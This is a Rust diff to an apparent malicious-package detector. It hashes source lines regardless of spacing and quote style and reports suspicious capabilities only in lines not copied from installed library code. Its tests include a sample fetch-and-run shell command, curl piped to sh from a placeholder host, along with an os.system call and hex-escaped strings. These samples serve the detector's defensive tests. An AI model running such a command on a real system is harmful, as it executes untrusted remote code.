@@ -528,6 +528,17 @@ fn substantive_lines(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
     bytes.split(|&c| c == b'\n').map(|l| l.trim_ascii()).filter(|l| l.len() >= 8 && !l.starts_with(b"#"))
 }
 
+/// Hash of a source line that ignores spacing and the choice of quote (`'` or `"`), so that a
+/// copy reformatted by a linter still counts as the same line.
+fn line_key(line: &[u8]) -> u64 {
+    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
+    for &c in line.iter().filter(|c| !c.is_ascii_whitespace()) {
+        h ^= if c == b'\'' { b'"' } else { c } as u64;
+        h = h.wrapping_mul(0x0100_0000_01b3);
+    }
+    h
+}
+
 /// Every substantive line of the installed (benign) corpus, by hash: tells how much of a registry
 /// payload member is verbatim library code (reported for the held-out misses).
 pub struct LibraryLines(std::collections::HashSet<u64>);
@@ -536,14 +547,29 @@ impl LibraryLines {
     pub fn new<'a>(files: impl Iterator<Item = &'a [u8]>) -> LibraryLines {
         let mut set = std::collections::HashSet::new();
         for f in files {
-            set.extend(substantive_lines(f).map(fnv));
+            set.extend(substantive_lines(f).map(line_key));
         }
         LibraryLines(set)
     }
 
     /// (substantive lines, of which found in some installed file).
     pub fn overlap(&self, bytes: &[u8]) -> (usize, usize) {
-        substantive_lines(bytes).fold((0, 0), |(n, k), l| (n + 1, k + self.0.contains(&fnv(l)) as usize))
+        substantive_lines(bytes).fold((0, 0), |(n, k), l| (n + 1, k + self.0.contains(&line_key(l)) as usize))
+    }
+
+    /// The [`capabilities`] of the code lines that are *not* verbatim installed library code
+    /// (comment lines skipped). Empty for a typosquat's unchanged copy of a real `setup.py`
+    /// whose `exec(f.read(), about)` and `os.system("twine upload …")` are upstream's own.
+    pub fn novel_capabilities(&self, bytes: &[u8]) -> Vec<&'static str> {
+        let mut novel = Vec::new();
+        for l in bytes.split(|&c| c == b'\n').map(|l| l.trim_ascii()) {
+            if l.is_empty() || l.starts_with(b"#") || self.0.contains(&line_key(l)) {
+                continue;
+            }
+            novel.extend(l.iter().map(u8::to_ascii_lowercase));
+            novel.push(b'\n');
+        }
+        capabilities_in(&novel)
     }
 }
 
@@ -633,6 +659,13 @@ mod tests {
         assert_eq!(lib.overlap(copy), (2, 2));
         assert_eq!(lib.overlap(b"import warnings\nos.system('curl example.invalid | sh')\n"), (2, 1));
         assert_eq!(lib.overlap(b""), (0, 0));
+        // capabilities count only outside verbatim library lines
+        let lib = LibraryLines::new([b"    exec(f.read(), about)\nos.system('twine upload dist/*')\n".as_slice()].into_iter());
+        assert!(lib.novel_capabilities(b"about = {}\nexec(f.read(), about)\nos.system('twine upload dist/*')\n").is_empty());
+        // spacing and quote style do not make a line new
+        assert!(lib.novel_capabilities(b"exec(f.read(),about)\nos.system(\"twine upload dist/*\")\n").is_empty());
+        assert_eq!(lib.novel_capabilities(b"exec(f.read(), about)\n# os.system\nos.system('id')\n"), ["os.system"]);
+        assert_eq!(lib.novel_capabilities(b"x = '\\x41\\x42'\ny = '\\x43\\x44'\n"), ["\\x*4"]);
     }
 
     #[test]
